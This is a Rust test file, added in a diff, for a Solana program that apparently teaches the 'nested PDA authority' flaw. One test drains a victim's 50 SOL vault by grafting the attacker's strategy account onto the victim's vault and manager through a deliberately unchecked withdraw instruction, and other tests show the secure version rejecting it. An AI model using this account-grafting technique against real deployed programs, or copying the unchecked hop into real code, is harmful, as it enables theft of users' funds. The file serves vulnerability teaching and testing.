@@ -0,0 +1,316 @@
+/// # Pattern 206: Nested PDA Authority — Mollusk Exploit Tests
+///
+/// Two complete chains exist. The victim's vault holds 50 SOL; its owner
+/// appointed a manager, who added a strategy run by the victim's operator.
+/// The attacker built the same chain for their own, empty vault, with
+/// themselves as manager and operator. Every account is genuine.
+///
+/// - Test 1: EXPLOIT — the attacker grafts their strategy onto the
+///   victim's vault and manager and withdraws 50 SOL through
+///   strategy_withdraw_vulnerable.
+/// - Test 2: SECURE — the same forged chain fails strategy_withdraw_secure
+///   at the strategy → manager hop.
+/// - Test 3: SECURE — grafting one hop higher, the attacker's manager onto
+///   the victim's vault, fails at the manager → vault hop.
+/// - Test 4: SANITY — the victim's operator withdraws through the victim's
+///   own chain.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{account_discriminator, ix_discriminator, owned_account, Accounts, Ledger};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("BnHHNE3WpgqRxCxLPqvL98HVLqfn8NQbxx4otCadwZKR");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = 10 * SOL;
+const FUNDS: u64 = 50 * SOL;
+
+// Error codes
+const CONSTRAINT_HAS_ONE: u32 = 2001;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Vault account:
+///   [8 disc][32 owner][1 bump]
+fn serialize_vault(owner: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(41);
+    data.extend_from_slice(&account_discriminator("Vault"));
+    data.extend_from_slice(owner.as_ref());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Manager account:
+///   [8 disc][32 vault][32 authority][1 bump]
+fn serialize_manager(vault: &Pubkey, authority: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(73);
+    data.extend_from_slice(&account_discriminator("Manager"));
+    data.extend_from_slice(vault.as_ref());
+    data.extend_from_slice(authority.as_ref());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Strategy account:
+///   [8 disc][32 manager][32 operator][1 bump]
+fn serialize_strategy(manager: &Pubkey, operator: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(73);
+    data.extend_from_slice(&account_discriminator("Strategy"));
+    data.extend_from_slice(manager.as_ref());
+    data.extend_from_slice(operator.as_ref());
+    data.push(bump);
+    data
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+/// vault → manager → strategy, with every parent link set correctly.
+struct Chain {
+    vault: Pubkey,
+    manager: Pubkey,
+    strategy: Pubkey,
+    operator: Pubkey,
+}
+
+impl Chain {
+    fn new(
+        owner: Pubkey,
+        authority: Pubkey,
+        operator: Pubkey,
+        funds: u64,
+        ledger: &mut Accounts,
+    ) -> Self {
+        let (vault, vault_bump) =
+            Pubkey::find_program_address(&[b"vault", owner.as_ref()], &PROGRAM_ID);
+        let (manager, manager_bump) = Pubkey::find_program_address(
+            &[b"manager", vault.as_ref(), authority.as_ref()],
+            &PROGRAM_ID,
+        );
+        let (strategy, strategy_bump) = Pubkey::find_program_address(
+            &[b"strategy", manager.as_ref(), operator.as_ref()],
+            &PROGRAM_ID,
+        );
+
+        ledger.extend([
+            (
+                vault,
+                owned_account(&serialize_vault(&owner, vault_bump), RENT + funds, &PROGRAM_ID),
+            ),
+            (
+                manager,
+                owned_account(
+                    &serialize_manager(&vault, &authority, manager_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (
+                strategy,
+                owned_account(
+                    &serialize_strategy(&manager, &operator, strategy_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+        ]);
+
+        Self {
+            vault,
+            manager,
+            strategy,
+            operator,
+        }
+    }
+}
+
+struct World {
+    victim: Chain,
+    attacker: Chain,
+    ledger: Ledger,
+}
+
+impl World {
+    fn new() -> Self {
+        let victim_operator = Pubkey::new_unique();
+        let attacker = Pubkey::new_unique();
+        let mut ledger = vec![
+            (victim_operator, system_account()),
+            (attacker, system_account()),
+        ];
+
+        let victim = Chain::new(
+            Pubkey::new_unique(),
+            Pubkey::new_unique(),
+            victim_operator,
+            FUNDS,
+            &mut ledger,
+        );
+        let attacker = Chain::new(attacker, attacker, attacker, 0, &mut ledger);
+
+        Self {
+            victim,
+            attacker,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    fn withdraw(
+        &self,
+        name: &str,
+        vault: Pubkey,
+        manager: Pubkey,
+        strategy: Pubkey,
+        operator: Pubkey,
+        amount: u64,
+    ) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(vault, false),
+                AccountMeta::new_readonly(manager, false),
+                AccountMeta::new_readonly(strategy, false),
+                AccountMeta::new(operator, true),
+            ],
+        )
+    }
+
+    /// The victim's vault and manager, completed by the attacker's strategy.
+    fn grafted_strategy(&self, name: &str) -> Instruction {
+        self.withdraw(
+            name,
+            self.victim.vault,
+            self.victim.manager,
+            self.attacker.strategy,
+            self.attacker.operator,
+            FUNDS,
+        )
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_grafted_strategy_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: strategy_withdraw_vulnerable(50 SOL) with
+    //   vault    = victim's
+    //   manager  = victim's      (manager.vault == vault ✓)
+    //   strategy = attacker's    (strategy.operator == signer ✓,
+    //                             strategy.manager == attacker's manager)
+    //
+    // Expected: SUCCEEDS. The unchecked hop lets the attacker's strategy
+    //           speak for the victim's manager; the vault is emptied.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "nested_pda_authority");
+    let mut w = World::new();
+    let (victim_vault, attacker_operator) = (w.victim.vault, w.attacker.operator);
+
+    let ix = w.grafted_strategy("strategy_withdraw_vulnerable");
+    w.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&victim_vault).lamports(RENT).build(),
+            Check::account(&attacker_operator)
+                .lamports(WALLET + FUNDS)
+                .build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_rejects_grafted_strategy() {
+    // -----------------------------------------------------------------------
+    // SECURE: The same accounts through strategy_withdraw_secure.
+    //
+    // Expected: FAILS with ConstraintHasOne (2001) on the strategy:
+    //           strategy.manager is the attacker's manager, not the one
+    //           passed in.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "nested_pda_authority");
+    let mut w = World::new();
+
+    let ix = w.grafted_strategy("strategy_withdraw_secure");
+    w.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(CONSTRAINT_HAS_ONE))],
+    );
+}
+
+#[test]
+fn secure_rejects_grafted_manager() {
+    // -----------------------------------------------------------------------
+    // SECURE: The attacker grafts one hop higher instead: the victim's
+    // vault, with the attacker's own manager and strategy below it.
+    //
+    // Expected: FAILS with ConstraintHasOne (2001) on the manager:
+    //           manager.vault is the attacker's vault.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "nested_pda_authority");
+    let mut w = World::new();
+
+    let ix = w.withdraw(
+        "strategy_withdraw_secure",
+        w.victim.vault,
+        w.attacker.manager,
+        w.attacker.strategy,
+        w.attacker.operator,
+        FUNDS,
+    );
+    w.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(CONSTRAINT_HAS_ONE))],
+    );
+}
+
+#[test]
+fn sanity_operator_withdraws_own_chain_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: The victim's operator withdraws 10 SOL through
+    // strategy_withdraw_secure, with the victim's own chain.
+    //
+    // Expected: SUCCEEDS. Every hop checks out.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "nested_pda_authority");
+    let mut w = World::new();
+    let (victim_vault, victim_operator) = (w.victim.vault, w.victim.operator);
+
+    let ix = w.withdraw(
+        "strategy_withdraw_secure",
+        w.victim.vault,
+        w.victim.manager,
+        w.victim.strategy,
+        w.victim.operator,
+        10 * SOL,
+    );
+    w.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&victim_vault)
+                .lamports(RENT + FUNDS - 10 * SOL)
+                .build(),
+            Check::account(&victim_operator)
+                .lamports(WALLET + 10 * SOL)
+                .build(),
+        ],
+    );
+}